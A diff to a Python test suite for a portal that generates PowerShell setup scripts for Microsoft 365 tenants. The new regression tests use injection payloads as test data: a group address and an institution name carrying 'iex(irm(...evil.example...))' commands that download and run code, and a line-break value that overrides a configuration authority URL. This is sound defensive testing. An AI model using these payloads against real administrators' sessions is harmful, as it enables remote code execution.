@@ -20,7 +20,7 @@ from flask import url_for
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from portal import invitations, rotation
+from portal import certificates, invitations, rotation
 from portal.extensions import db
 from portal.microsoft.clouds import CLOUDS
 from portal.models import (
@@ -35,7 +35,7 @@ from portal.models import (
 )
 from portal.validators import ADDRESS, DOMAIN, GUID, has_control_characters
 from tests.conftest import CSRF, Wizard
-from tests.hostile import INJECTIONS
+from tests.hostile import INJECTIONS, literals
 from tests.hostile import hostile_text as injection_text
 
 settings.register_profile(
@@ -289,8 +289,6 @@ class Portal:
         self.app = app
         self.contexts: dict[str, Context] = {}
         with app.app_context():
-            from portal import certificates
-
             certificates.create_vendor_certificate(365, "test")
             db.session.commit()
         runner = app.test_cli_runner()
@@ -763,3 +761,62 @@ def test_the_csv_export_quotes_and_defuses_hostile_cells(console):
 @given(values=st.lists(injection_text, min_size=1, max_size=5))
 def test_the_csv_export_defuses_generated_hostile_cells(console, values):
     _check_csv_export(*console, values)
+
+
+# The group address that became code in the administrator's Exchange Online session.
+ISSUE_GROUP = "a\u2019;iex(irm(\u2019https://evil.example/x\u2019));\u2019@contoso.edu"
+
+
+def test_the_group_address_that_ran_code_is_refused_with_a_message(app, wizard, invitation):
+    wizard.open(invitation["managed"])
+    wizard.to_tenant("application")
+    response = wizard.enter_tenant("example.edu", CLIENT_ID, group=ISSUE_GROUP)
+    assert response.status_code == 400
+    assert "e-mail address, such as mytimetable@example.edu" in response.text
+    with app.app_context():
+        configuration = (
+            db.session.query(Configuration)
+            .join(Institution)
+            .filter_by(name="Example University")
+            .one()
+        )
+        assert (configuration.client_id, configuration.security_group_email) == (None, None)
+
+
+def test_the_console_refuses_an_institution_name_with_a_line_break(console):
+    app, client = console
+    token = CSRF.search(client.get("/support/institutions").text).group(1)
+    response = client.post(
+        "/support/institutions",
+        data={
+            "csrf_token": token,
+            "name": "Evil\noffice365.authority=https://evil.example/",
+            "hosting": "on_premises",
+            "contact_email": "it@evil.example",
+        },
+    )
+    assert response.status_code == 400
+    assert "control characters" in response.text
+    with app.app_context():
+        assert db.session.query(Institution).count() == 0
+
+
+def test_quotes_in_a_name_and_a_group_stay_strings_in_the_downloaded_scripts(app, wizard):
+    name = "O\u2019Brien \u2018College\u2019; iex(irm(\u2018https://evil.example/\u2019))"
+    group = "o'brien.staff@contoso.edu"
+    with app.app_context():
+        certificates.create_vendor_certificate(365, "test")
+        institution = invitations.create_institution(name, "managed", "it@contoso.edu", "t")
+        link = invitations.issue_invitation(institution, "test")
+        db.session.commit()
+    wizard.open(link)
+    wizard.to_tenant("application")
+    assert wizard.enter_tenant("example.edu", CLIENT_ID, group=group).status_code == 302
+    for script in ("rbac", "access-policy"):
+        response = wizard.client.get(f"/setup/scripts/{script}.ps1")
+        assert response.status_code == 200
+        values, code = literals(response.get_data(as_text=True))
+        assert group in values and CLIENT_ID in values
+        assert "iex" not in code and "evil" not in code
+        if script == "rbac":
+            assert f"MyTimetable - {name}" in values
